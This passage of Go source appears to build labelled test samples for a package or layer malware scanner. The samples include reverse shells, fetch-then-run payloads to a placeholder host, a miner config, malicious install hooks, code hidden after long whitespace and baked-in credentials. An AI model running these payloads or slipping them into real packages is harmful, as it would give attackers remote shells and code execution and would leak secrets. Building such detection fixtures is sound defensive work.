		p("T20/python/pty", ids("reverse-shell"), "import os, pty, socket\ns = socket.create_connection(('"+sink+"', 443))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn(['/bin/bash'])\n"),
		p("T20/python/command-loop", ids("reverse-shell", "download-and-run"), "import subprocess, time, urllib.request\nwhile True:\n    cmd = urllib.request.urlopen('"+url+"/next').read().decode()\n    out = subprocess.getoutput(cmd)\n    urllib.request.urlopen('"+url+"/done', out.encode())\n    time.sleep(5)\n"),
		n("T20/node/exec-loop", ids("reverse-shell", "download-and-run"), "const s = require('net').connect(443, '"+sink+"');\ns.on('data', d => require('child_process').exec(d.toString(), (e, o) => s.write(o)));\n"),
		sh("T20/shell/fetch-then-run", ids("download-and-run"), "wget -q -O /tmp/.u "+url+"/u\nchmod 755 /tmp/.u\n/tmp/.u &\n"),
		p("T20/python/fetch-then-run", ids("download-and-run"), "import os, subprocess, urllib.request\nurllib.request.urlretrieve('"+url+"/u', '/tmp/u')\nos.chmod('/tmp/u', 0o755)\nsubprocess.Popen(['/tmp/u'])\n"),
		n("T20/node/fetch-then-run", ids("download-and-run"), "const https = require('https'), fs = require('fs'), cp = require('child_process');\nhttps.get('"+url+"/u', r => r.pipe(fs.createWriteStream('/tmp/u')).on('finish', () => { fs.chmodSync('/tmp/u', 0o755); cp.spawn('/tmp/u', { detached: true }); }));\n"),
		p("T20/python/obfuscated-fetch", ids("download-and-run", "obfuscated-code"), "u = __import__('urllib.request', fromlist=['*'])\nexec(u.urlopen(''.join(['ht', 'tps://', 'collect', '.example.invalid/p'])).read())\n"),
		one("T20/any/miner-config", py, ids("miner"), File{"etc/c.json", `{"autosave":true,"cpu":true,"pools":[{"coin":"monero","algo":"rx/0","url":"pool.` + sink + `:3333","user":"w","tls":false}]}`, 0}),
		one("T21/node/obfuscated", node, ids("install-hook"), File{"nodejs/node_modules/acme/package.json", `{"name":"acme","version":"1.0.0","scripts":{"preinstall":"node -e \"eval(Buffer.from('dm9pZCAw','base64').toString())\""}}`, 0}, File{"nodejs/node_modules/acme/index.js", "module.exports = 1\n", 0}),
		one("T21/python/cmdclass", py, ids("install-hook"), File{"python/acme/setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request\nclass I(install):\n    def run(self):\n        exec(urllib.request.urlopen('" + url + "').read())\n        install.run(self)\nsetup(name='acme', cmdclass={'install': I})\n", 0}),
	}
}

// fileDetours are detours of what packages, binaries and archives say of themselves.
func fileDetours() []Sample {
	key := "aws_access_key_id = " + AccessKeyID() + "\naws_secret_access_key = " + secretKey() + "\n"
	changed := wheel("acmelib", "1.0", map[string]string{"acmelib/__init__.py": "x = 1\nimport os\n"}, nil)
	return []Sample{
		one("T15/python/record-edited", py, ids("record-mismatch", "unlisted-code"), changed...),
		one("T15/python/obfuscated-name", py, ids("unlisted-code"), wheel("acmelib", "1.0", map[string]string{"acmelib/__init__.py": "x = 1\n"}, map[string]string{"acmelib/__\u0456nit__.py": "exec('')\n"})...),
		one("T15/node/changed", node, ids("npm-integrity"), append(locked(map[string]string{"left": "1.0.0"}, map[string]string{"left": "1.0.0"}), File{"nodejs/node_modules/left/lib/extra.js", "require('https')\n", 0})...),
		one("T16/python/obfuscated-folder", py, ids("pyc-mismatch"), File{"python/acme/b/__init__.pyc", pyc(0, 1, 6), 0}, File{"python/acme/__init__.py", "from . import b\n", 0}),
		one("T23/script/obfuscated-case", "provided.al2023", ids("architecture-split"), File{"extensions/x", "#!/bin/bash\nm=$(arch)\nexec \"/opt/libexec/$m/agent\"\n", 0o755}, File{"libexec/aarch64/agent", elf(183, "connect\x00"), 0o755}, File{"libexec/x86_64/agent", elf(62, "connect\x00process_vm_writev\x00/2018-06-01/runtime/invocation\x00"), 0o755}),
		one("T23/python/machine", py, ids("architecture-split"), File{"python/acme/__init__.py", "import ctypes, os, platform\nctypes.CDLL(os.path.join(os.path.dirname(__file__), platform.machine(), 'libx.so'))\n", 0}, File{"python/acme/aarch64/libx.so", elf(183, ""), 0o755}, File{"python/acme/x86_64/libx.so", elf(62, "stratum+tcp://pool."+sink+"\x00"), 0o755}),
		one("T23/node/arch", node, ids("architecture-split"), append(nodeModule("module.exports = require(`./prebuilds/linux-${process.arch}/x.node`)\n"), File{"nodejs/node_modules/acme/prebuilds/linux-x64/x.node", elf(62, "process_vm_writev\x00"), 0o755}, File{"nodejs/node_modules/acme/prebuilds/linux-arm64/x.node", elf(183, ""), 0o755})...),
		baseline("T24/any/pth-added", py, ids("baseline-drift", "pth-code"), []File{{"python/acme/a.py", "x = 1\n", 0}}, []File{{"python/acme/a.py", "x = 1\n", 0}, {"python/a.pth", "import acme.a\n", 0}}),
		baseline("T24/any/now-executable", node, ids("baseline-drift"), []File{{"start", "#!/bin/sh\nexec \"$@\"\n", 0o644}}, []File{{"start", "#!/bin/sh\nexec \"$@\"\n", 0o755}}),
		baseline("T24/python/obfuscated", py, ids("baseline-drift"), []File{{"python/acme/a.py", "def f():\n    return 1\n", 0}}, []File{{"python/acme/a.py", "def f():\n    return 1\n" + strings.Repeat(" ", 400) + ";exec(bytes.fromhex('70617373'))\n", 0}}),
		one("T25/python/joined", py, ids("baked-secret"), File{"python/acme/cfg.py", fmt.Sprintf("ID = '%s' '%s'\nSECRET = %q\n", AccessKeyID()[:8], AccessKeyID()[8:], secretKey()), 0}),
		one("T25/file/base64", py, ids("baked-secret"), File{"etc/conf.b64", b64(key), 0}),
		one("T25/file/docker", py, ids("baked-secret"), File{"root/.docker/config.json", `{"auths":{"registry.example.invalid":{"auth":"` + b64("ci:"+"Vx3BnM0pLkJhGfDs") + `"}}}`, 0}),
		one("T25/file/pip", py, ids("baked-secret"), File{"etc/pip.conf", "[global]\nindex-url = https://ci:" + "Vx3BnM0pLkJhGfDs" + "@pypi.example.invalid/simple\n", 0}),
		one("T25/file/utf16", "dotnet8", ids("baked-secret"), File{"etc/settings.ini", "\xff\xfe" + wide(key), 0}),
		one("T25/elf/string", "provided.al2023", ids("baked-secret"), File{"bin/tool", elf(62, "\x00"+AccessKeyID()+"\x00"+secretKey()+"\x00"), 0o755}),
		one("T25/node/obfuscated-join", node, ids("baked-secret"), nodeModule(fmt.Sprintf("exports.id = [%q, %q].join('');\nexports.secret = %q + %q;\n", AccessKeyID()[:4], AccessKeyID()[4:], secretKey()[:20], secretKey()[20:]))...),
	}
}

// xor is text with each byte changed, as Python writes bytes.
func xor(s string, key byte) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, `\x%02x`, s[i]^key)
	}
	return b.String()
}

// wide is text as UTF-16, the low byte first.
func wide(s string) string {
	var b strings.Builder
	for i := range len(s) {
		b.Write([]byte{s[i], 0})
	}
	return b.String()
}
